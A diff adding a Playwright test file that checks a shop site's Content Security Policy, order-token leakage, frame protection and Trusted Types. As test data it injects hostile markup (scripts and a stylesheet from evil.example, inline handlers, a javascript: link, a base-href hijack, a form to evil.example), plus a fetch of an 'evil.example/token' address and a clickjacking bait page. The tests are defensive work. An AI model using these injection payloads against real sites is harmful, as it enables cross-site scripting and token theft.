@@ -1,0 +1,204 @@
+/*
+ * The content policy at work: no page trips over it, and nothing gets past it. A violation is an
+ * error on the console, so it fails any other browser test as well.
+ */
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page } from '@playwright/test'
+import { ADMIN_PAGES, logIn } from './support/admin.ts'
+import { crawl } from './support/built-site.ts'
+import { confirmedOrder, openFilledCheckout, pressPlaceOrder } from './support/customer.ts'
+import { test as ownShopTest } from './support/own-shop.ts'
+import { expect, test } from './support/shop-test.ts'
+
+test('no page does what its policy refuses, from top to end', async ({ page, request }) => {
+  test.slow()
+  const linked = (await crawl(request)).map(({ path }) => path)
+  for (const path of [...linked, '/order/tracking/ABCDEFGH', '/admin']) {
+    await page.goto(path)
+    // A key, not a call into the page: one that leads away at once has nobody left to call.
+    await page.keyboard.press('End')
+    await page.waitForLoadState('networkidle')
+  }
+})
+
+test('C36 the token of an order goes to the store and nowhere else: no address, no Referer', async ({
+  page,
+}) => {
+  const told: string[] = []
+  page.on('request', async (request) => {
+    told.push(request.url(), JSON.stringify(await request.allHeaders()))
+  })
+  const placing = page.waitForRequest('**/rpc/place_order')
+  await openFilledCheckout(page)
+  await pressPlaceOrder(page)
+  const { token } = (await placing).postDataJSON().p
+  const id = await confirmedOrder(page)
+  await page.getByRole('link', { name: /track/i }).first().click()
+  await expect(page).toHaveURL(new RegExp(`/order/tracking/${id}$`))
+  await page.waitForLoadState('networkidle')
+  expect(token).toMatch(/^[\w-]{22,}$/)
+  expect(told.length).toBeGreaterThan(10)
+  expect(told.filter((text) => text.includes(token))).toEqual([])
+  expect(await page.evaluate(() => [location.href, document.referrer])).not.toContain(token)
+})
+
+test.describe('what a hole in a page would let in', () => {
+  test.use({ expectedNoise: /Content Security Policy|404/ })
+
+  for (const path of ['/', '/cart', '/order/tracking/ABCDEFGH', '/admin', '/nowhere']) {
+    test(`is refused on ${path}`, async ({ page }) => {
+      await smuggleInto(page, path)
+      await page.goto(path)
+      await page.evaluate(() => {
+        document.querySelector<HTMLFormElement>('#smuggled-form')?.requestSubmit()
+        document.querySelector<HTMLAnchorElement>('#smuggled-link')?.click()
+        fetch('https://evil.example/token').catch(() => {})
+      })
+      await expect.poll(() => refusedOn(page)).toEqual(expect.arrayContaining(REFUSED))
+      expect(await page.evaluate(() => 'smuggled' in globalThis)).toBe(false)
+      expect(await page.evaluate(() => document.querySelector('main')?.checkVisibility())).toBe(
+        true,
+      )
+      expect(await page.evaluate(() => document.baseURI)).toBe(page.url())
+    })
+  }
+})
+
+test.describe(() => {
+  test.use({ expectedNoise: /frame-ancestors|X-Frame-Options|404/ })
+
+  test('C35 no page shows itself in a frame of somebody else', async ({ page, baseURL }) => {
+    const paths = [
+      '/',
+      '/checkout',
+      '/admin',
+      ...ADMIN_PAGES.map((name) => `/admin/${name}`),
+      '/no',
+    ]
+    const frames = paths.map((path) => `<iframe src="${baseURL}${path}"></iframe>`)
+    const foreign = createServer((_, response) => {
+      response.setHeader('Content-Type', 'text/html').end(`<h1>Win a prize</h1>${frames.join('')}`)
+    })
+    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve))
+    await page.goto(`http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`)
+    await page.waitForLoadState('networkidle')
+    const [, ...framed] = page.frames()
+    expect(framed.map((frame) => frame.url())).toEqual(
+      paths.map(() => 'chrome-error://chromewebdata/'),
+    )
+    foreign.closeAllConnections()
+    foreign.close()
+  })
+})
+
+ownShopTest('no page of the admin does what its policy refuses', async ({ page }) => {
+  await logIn(page)
+  for (const name of ADMIN_PAGES) {
+    await page.goto(`/admin/${name}`)
+    await page.waitForLoadState('networkidle')
+  }
+})
+
+ownShopTest.describe(() => {
+  ownShopTest.use({ expectedNoise: /Content Security Policy|Trusted/ })
+
+  ownShopTest('C38 a page of the admin takes no string for markup or script', async ({ page }) => {
+    await logIn(page)
+    expect(await page.evaluate(tryEverySink)).toEqual(
+      [
+        'innerHTML',
+        'outerHTML',
+        'insertAdjacentHTML',
+        'setHTMLUnsafe',
+        'srcdoc',
+        'script',
+        'fragment',
+        'parser',
+        'policy',
+      ].map((sink) => `${sink}: TypeError`),
+    )
+    await expect(page.getByText('Total Orders')).toBeVisible()
+  })
+})
+
+/** Everything that makes markup or script of a text, and what came of it. */
+function tryEverySink(): string[] {
+  const text = '<b>smuggled</b>'
+  const host = document.body.appendChild(document.createElement('div'))
+  const sinks: Record<string, () => unknown> = {
+    innerHTML: () => Object.assign(host, { innerHTML: text }),
+    outerHTML: () => Object.assign(host, { outerHTML: text }),
+    insertAdjacentHTML: () => host.insertAdjacentHTML('beforeend', text),
+    setHTMLUnsafe: () => host.setHTMLUnsafe(text),
+    srcdoc: () => Object.assign(document.createElement('iframe'), { srcdoc: text }),
+    script: () => Object.assign(document.createElement('script'), { src: '/smuggled.js' }),
+    fragment: () => document.createRange().createContextualFragment(text),
+    parser: () => new DOMParser().parseFromString(text, 'text/html'),
+    policy: () =>
+      (globalThis as unknown as TrustedTypesWindow).trustedTypes.createPolicy('any', {}),
+  }
+  return Object.entries(sinks).map(([name, run]) => {
+    try {
+      run()
+      return `${name}: done`
+    } catch (error) {
+      return `${name}: ${(error as Error).name}`
+    }
+  })
+}
+
+interface TrustedTypesWindow {
+  trustedTypes: { createPolicy(name: string, rules: object): unknown }
+}
+
+const MARKUP = `
+  <script>globalThis.smuggled = 'script'</script>
+  <script type="module">globalThis.smuggled = 'module'</script>
+  <script src="https://evil.example/a.js"></script>
+  <img alt="" src="https://evil.example/a.png">
+  <svg onload="globalThis.smuggled = 'handler'"></svg>
+  <p style="position: fixed">x</p>
+  <style>main { display: none }</style>
+  <link rel="stylesheet" href="https://evil.example/a.css">
+  <iframe title="foreign" src="https://evil.example/frame"></iframe>
+  <iframe title="written" srcdoc="<script>parent.smuggled = 'frame'</script>"></iframe>
+  <embed src="https://evil.example/embed">
+  <base href="https://evil.example/">
+  <form id="smuggled-form" action="https://evil.example/form"></form>
+  <a id="smuggled-link" href="javascript:globalThis.smuggled = 'link'">x</a>`
+
+const REFUSED = [
+  'script-src-elem inline',
+  'script-src-elem https://evil.example',
+  'script-src-attr inline',
+  'img-src https://evil.example',
+  'style-src-attr inline',
+  'style-src-elem inline',
+  'style-src-elem https://evil.example',
+  'frame-src https://evil.example',
+  'object-src https://evil.example',
+  'base-uri https://evil.example',
+  'form-action https://evil.example',
+  'connect-src https://evil.example',
+]
+
+/** The page comes with its own headers and with markup that its makers did not write. */
+async function smuggleInto(page: Page, path: string): Promise<void> {
+  await page.addInitScript(() => {
+    const refused: string[] = []
+    Object.assign(globalThis, { refused })
+    document.addEventListener('securitypolicyviolation', (event) => {
+      refused.push(`${event.effectiveDirective} ${event.blockedURI.replace(/(?<=example).*/, '')}`)
+    })
+  })
+  await page.route(`**${path}`, async (route) => {
+    const response = await route.fetch()
+    const html = await response.text()
+    await route.fulfill({ response, body: html.replace('</body>', `${MARKUP}</body>`) })
+  })
+}
+
+function refusedOn(page: Page): Promise<string[]> {
+  return page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused)
+}
